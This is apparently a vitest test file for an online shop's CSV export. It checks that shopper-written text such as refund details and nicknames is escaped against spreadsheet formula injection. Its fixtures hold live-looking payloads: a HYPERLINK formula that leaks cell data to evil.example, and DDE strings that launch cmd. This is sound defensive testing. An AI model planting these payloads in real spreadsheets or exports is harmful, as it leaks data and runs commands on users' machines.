// CSV formula injection (OWASP): text a shopper wrote (refund descriptions, WeChat nicknames, which
// skip checkDisplayName) never reaches an exported cell as a live formula for Excel or WPS; plain
// numbers, negative money included, stay numbers. Every export goes through csvCell.
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { Database } from "../server/db";
import { inTx, type Ctx } from "../server/context";
import { registerMember } from "../server/referral";
import { exportDefinition } from "../server/exports/registry";
import { csvCell, csvStream, csvText } from "../server/exports/csv";
import { queueExport, runQueuedExports } from "../server/exports/jobs";
import { exportFileText } from "./helpers/export-file";
import { LocalDiskStorage } from "../server/storage";
import { freshPglite } from "./helpers/db";
import { shippedOrderWithRefundRequest } from "./helpers/aftersales";

const FORMULA = '=HYPERLINK("https://evil.example/?d="&C2,"查看")';

describe("csvCell", () => {
  it("quotes what a spreadsheet would run, leaves numbers and ordinary text alone", () => {
    expect(csvCell(FORMULA)).toBe(`'${FORMULA}`);
    expect(csvCell("=1+1")).toBe("'=1+1");
    expect(csvCell("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(csvCell("-cmd")).toBe("'-cmd");
    expect(csvCell("-2+3")).toBe("'-2+3");
    expect(csvCell("@SUM(1+1)")).toBe("'@SUM(1+1)");
    expect(csvCell("\t=1+1")).toBe("'\t=1+1");
    expect(csvCell("\r=1+1")).toBe("'\r=1+1");
    expect(csvCell("+86 13912345678")).toBe("'+86 13912345678");
    // Plain numbers: negative money and a signed stock change stay numbers.
    expect(csvCell("-12.34")).toBe("-12.34");
    expect(csvCell("-5")).toBe("-5");
    expect(csvCell("+5")).toBe("+5");
    expect(csvCell("0.00")).toBe("0.00");
    expect(csvCell(-12)).toBe(-12);
    // Ordinary text, including an = or - later in the cell.
    expect(csvCell("盒子压坏")).toBe("盒子压坏");
    expect(csvCell("买家甲 a=b-c")).toBe("买家甲 a=b-c");
    expect(csvCell("2026-03-10")).toBe("2026-03-10");
    expect(csvCell(" =1+1")).toBe(" =1+1");
    expect(csvCell("")).toBe("");
    expect(csvCell(null)).toBe("");
    expect(csvCell(undefined)).toBe("");
  });

  it("csvText (the dashboard's export) writes its cells through it", () => {
    expect(csvText(["日期", "金额"], [["=1+1", "-12.34"], ["2026-03-10", 3]])).toBe("\uFEFF日期,金额\n'=1+1,-12.34\n2026-03-10,3\n");
  });
});

describe("exports", () => {
  let database: Database;
  const run = <T,>(fn: (ctx: Ctx) => Promise<T>) => inTx(database.prisma, {}, fn);
  beforeEach(async () => {
    database = await freshPglite();
  });
  afterEach(() => database.close());

  async function csvOf(kind: string, search: string): Promise<string> {
    const def = exportDefinition(kind)!;
    const filter = def.fromSearch(new URLSearchParams(search));
    const stream = csvStream(def.columns("Asia/Shanghai"), def.rows(database.prisma, filter, "Asia/Shanghai"));
    return Buffer.from(await new Response(stream).arrayBuffer()).toString("utf8");
  }

  it("after-sales: a shopper's formula in the refund description comes out quoted", async () => {
    await shippedOrderWithRefundRequest(database, { reason: "other", detail: FORMULA });
    const lines = (await csvOf("after-sales", "")).slice(1).trim().split("\n");
    expect(lines).toHaveLength(2);
    // csv-stringify doubles the quotes inside and wraps the cell; the cell's text starts with '.
    expect(lines[1]).toContain(`,123.45,0.00,其他,"'=HYPERLINK(""https://evil.example/?d=""&C2,""查看"")",`);
    expect(lines[1]).not.toMatch(/,"?=HYPERLINK/);
  });

  it("members, as a background job writes it: a WeChat nickname starting with @ comes out quoted", async () => {
    const m = (await run((ctx) => registerMember(ctx, { username: "wx", ip: "2.2.2.2", device: "d" }))).id;
    await database.prisma.member.update({ where: { id: m }, data: { nickname: "@SUM(1+1)*cmd|' /C calc'!A0" } });
    const owner = await database.prisma.staffAccount.create({ data: { username: "boss", displayName: "店主", role: "owner", passwordHash: "-", createdAt: new Date() } });
    const dir = mkdtempSync(path.join(tmpdir(), "fm-csv-injection-"));
    try {
      const storage = new LocalDiskStorage(dir);
      const job = await run((ctx) => queueExport(ctx, { staffId: owner.id }, { kind: "members", filter: {}, rowsTotal: 1, fileName: "会员列表.csv" }));
      expect(await runQueuedExports(database.prisma, storage)).toBe(1);
      const text = await exportFileText(database.prisma, storage, { staffId: owner.id, role: "owner" }, job.id);
      expect(text).toContain(`${m},'@SUM(1+1)*cmd|' /C calc'!A0,`);
      expect(text).not.toMatch(/,@SUM/);
      // The same list downloaded at once is written the same way.
      expect(await csvOf("members", "")).toContain(`${m},'@SUM(1+1)*cmd|' /C calc'!A0,`);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
